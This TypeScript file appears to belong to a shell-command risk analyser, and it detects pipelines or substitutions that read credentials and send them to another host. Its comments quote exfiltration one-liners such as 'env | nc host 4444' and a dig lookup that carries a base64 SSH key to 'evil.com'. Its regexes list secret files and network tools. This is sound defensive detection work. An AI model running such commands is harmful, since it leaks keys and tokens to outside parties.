import { emit } from "./context.js";
import type { SyntaxNode } from "./parse.js";
import type { Walk } from "./walk.js";

/**
 * Secrets sent to the network on the same line: a pipeline stage that reads credentials feeding a
 * later stage that talks to another host (`env | nc host 4444`, `kubectl get secret x -o yaml |
 * curl -d @- …`), or a network command given them in a substitution (`dig $(cat ~/.ssh/id_rsa).x`).
 * What the receiver gets is access, for good.
 */
const SECRET_READ =
  /(?:~|\$HOME|\$\{HOME\}|\/root|\/home\/[^/\s]+)\/\.(?:ssh\/id_|aws\/credentials|kube\/config|netrc|npmrc|pypirc|docker\/config\.json|git-credentials|gnupg|vault-token)|\/etc\/shadow|(?:^|[\s(`|;&])(?:printenv|env|export -p|declare -x)(?:\s*$|\s*[|>)`;&])|secretsmanager\s+get-secret-value|ssm\s+get-parameters?\b[^|]*--with-decryption|\bget\s+secrets?\b|vault\s+(?:kv\s+get|read)\b|\bop\s+(?:read|item\s+get)\b|(?:^|[\s@<])\.env(?:\.[\w.-]+)?(?:\s|$|["')])/;
const NETWORK =
  /^(?:\S*\/)?(?:curl|wget|nc|ncat|netcat|socat|telnet|dig|nslookup|host|ssh|scp|sftp|ftp|http|https|xh|openssl)$/;

function firstWord(node: SyntaxNode): string {
  const text = node.text.trimStart();
  return /^[^\s|;&()<>]+/.exec(text)?.[0] ?? "";
}

function emitExfiltration(w: Walk, via: string, text: string): void {
  emit(w, {
    name: "send secrets",
    effect: "privilege",
    summary: `${via} sends credentials read on the same line to another host: ${text.slice(0, 80)}`,
    reversibility: "irreversible",
    blastRadius: "account",
    tags: ["privilege-escalation", "exfiltration"],
  });
}

/** A pipeline: any stage reading secrets before a stage that sends to the network. */
export function pipelineExfiltration(node: SyntaxNode, w: Walk): void {
  const stages = node.children.filter((c) => c.named);
  const reads = stages.findIndex((s) => SECRET_READ.test(s.text));
  if (reads < 0) return;
  const sender = stages.slice(reads + 1).find((s) => NETWORK.test(firstWord(s)));
  if (sender) emitExfiltration(w, firstWord(sender), node.text);
}

/** A network command whose own words read secrets (`dig $(cat ~/.ssh/id_rsa | base64).evil.com`). */
export function commandExfiltration(node: SyntaxNode, w: Walk): void {
  if (!NETWORK.test(firstWord(node))) return;
  const args = node.text.slice(firstWord(node).length);
  if (/\$\(|`/.test(args) && SECRET_READ.test(args)) emitExfiltration(w, firstWord(node), node.text);
}
